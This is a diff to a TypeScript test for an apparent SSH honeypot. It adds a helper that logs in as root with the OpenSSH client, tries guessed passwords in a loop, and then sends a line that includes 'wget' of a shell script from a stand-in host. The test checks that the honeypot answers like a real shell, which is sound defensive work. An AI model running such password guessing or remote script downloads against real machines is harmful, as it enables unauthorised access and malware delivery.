@@ -1,6 +1,7 @@
+import { execFile } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { OPTIONS, run } from '../../ssh-agent/test/parts/openssh.ts';
 import { runCli, startCli } from './run-cli.ts';
 import { type StartedService, startService } from './start-service.ts';
 
@@ -11,6 +12,29 @@ interface Kept {
 
 interface Sessions {
   readonly data: readonly Record<string, unknown>[];
+}
+
+interface Answer {
+  readonly status: unknown;
+  readonly stdout: string;
+  readonly stderr: string;
+}
+
+/** Runs a line on the honeypot by the client of OpenSSH, which asks a program for the password. */
+function ssh(port: string, password: string, line: string): Promise<Answer> {
+  const askpass = join(service.dataDir, 'askpass');
+  writeFileSync(askpass, `#!/bin/sh\necho ${password}\n`, { mode: 0o700 });
+  const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'IdentityFile=none', 'LogLevel=ERROR'];
+  const words = [...options, 'NumberOfPasswordPrompts=1'].flatMap((option) => ['-o', option]);
+  const env = { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' };
+  return new Promise((resolve) => {
+    execFile(
+      'ssh',
+      ['-F', '/dev/null', ...words, '-p', port, 'root@127.0.0.1', line],
+      { env },
+      (error, stdout, stderr) => resolve({ status: error?.code ?? 0, stdout, stderr }),
+    );
+  });
 }
 
 let service: StartedService;
@@ -32,9 +56,9 @@ describe('agent', { timeout: 120_000 }, () => {
     await agent.until('waits on port');
     const port = /waits on port (\d+)/.exec(agent.said())?.[1] ?? '';
     const line = 'uname -s; wget -q http://198.51.100.9/x.sh; nosuchthing';
-    let answer = { stdout: '', stderr: '', status: null as number | null };
+    let answer: Answer = { stdout: '', stderr: '', status: null };
     for (let guess = 0; answer.status !== 127 && guess < 12; guess += 1) {
-      answer = await run('ssh', [...OPTIONS, '-p', port, 'root@127.0.0.1', line], `guess-${guess}`);
+      answer = await ssh(port, `guess-${guess}`, line);
     }
     expect([answer.status, answer.stdout]).toEqual([127, 'Linux\n']);
     expect(answer.stderr).toContain('nosuchthing: command not found');
